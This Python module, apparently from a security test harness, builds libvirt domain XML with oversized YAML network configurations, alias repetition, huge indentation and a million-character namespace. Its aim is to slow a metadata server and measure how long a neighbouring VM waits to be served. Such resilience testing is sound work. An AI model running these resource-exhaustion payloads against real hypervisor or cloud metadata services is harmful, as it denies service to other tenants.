"""An operator starts a domain again and again whose document takes long to compare with itself: a few hundred kilobytes, hours of work.

The server reads one domain of a libvirt after another. Gained: neighbours that are not served after they start, and all changes of all domains,
for as long as the server still reads somebody else's XML. In the way: what grows with the square of a document's length has a limit of its own
(links and addresses of a network configuration, text that aliases repeat, the names of namespaces, words that are compared with misspelt ones).
"""

import time

import attack
import space
from attack import Outcome
from attacks.target_of_others import UUID
from field import METADATA, Field, ask
from host import Host

# How long a neighbour may wait after its start, in seconds: as long as its requests are held.
MOST = 5
NAMESPACE = "urn:virt-metadata:instance:1"


def _domain(values: str, more: str = "") -> str:
    return (f"<domain type='test'><name>intruder</name><uuid>{UUID}</uuid><memory>8192</memory><vcpu>1</vcpu><os><type>hvm</type></os>"
            f"<metadata><vm:instance xmlns:vm='{NAMESPACE}'{more}>{values}</vm:instance></metadata></domain>")


def _network(text: str) -> str:
    return _domain(f"<vm:network-config><![CDATA[\n{text}]]></vm:network-config>")


def _documents() -> dict[str, str]:
    name = "a" * 110_000
    members = ", ".join(["*b"] * 30)
    addresses = ", ".join(f"11.{number >> 8}.{number & 255}.1/24" for number in range(9_000))
    links = "".join(f"  a{number:05}: {{dhcp4: true}}\n" for number in range(5_000))
    return {
        "nearly the same names": _network(
            f"version: 2\nethernets:\n  ? {name}\n  : {{dhcp4: true}}\nx: &b {name}b\nbridges:\n  br9: {{interfaces: [{members}]}}\n"),
        "addresses and routes": _network(
            f"version: 2\nx: &r {{to: 0.0.0.0/0, via: 10.0.0.1}}\nethernets:\n  lan:\n    addresses: [{addresses}]\n"
            f"    routes: [{', '.join(['*r'] * 12_000)}]\n"),
        "links and members": _network(
            f"version: 2\nethernets:\n{links}bridges:\n  br9: {{interfaces: [{', '.join(f'b{number:04}' for number in range(12_000))}]}}\n"),
        "a long indentation": _domain("<vm:userdata>\n" + " " * 500_000 + "x" + "\n" * 500_000 + "</vm:userdata>"),
        "a long namespace": _domain("<x:a/>" * 40_000, f" xmlns:x='{'u' * 1_000_000}'"),
    }


class Attack(attack.Attack):
    """The domain starts while victim-1 does, once with each document."""

    families = (4,)
    hosts = ("address",)
    victims = slice(1, None)
    no_proof = "the limits of a document are part of reading it; the program without them took a minute for each name of the first one"

    def prepare(self, host: Host) -> None:
        """It runs."""
        host.hypervisor.start(_domain(""))

    def attack(self, field: Field) -> None:
        """Nothing more: the XML is the attack. The forger asks as ever."""
        field.ready()
        while field.goes_on():
            ask(METADATA[field.family])

    def during(self, host: Host, outcome: Outcome) -> None:
        """Starts both anew, the neighbour last."""
        first, waits = host.victims[0], {}
        for kind, xml in _documents().items():
            host.hypervisor.stop("intruder", first.name)
            host.hypervisor.start(xml, first.xml())
            begin = time.monotonic()
            try:
                host.wait_until_served(first, seconds=3 * MOST)
            except space.Failure:
                pass
            waits[kind] = round(time.monotonic() - begin, 2)
        outcome.host_report["waits"] = waits

    def gained(self, outcome: Outcome) -> str | None:
        """A neighbour that waits."""
        waits = outcome.host_report["waits"]
        longest = max(waits, key=waits.get)
        if waits[longest] > MOST:
            return f"victim-1 was served {waits[longest]} s after its start: {longest}"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def restore(self, host: Host) -> None:
        """Ends the domain."""
        host.hypervisor.stop("intruder")
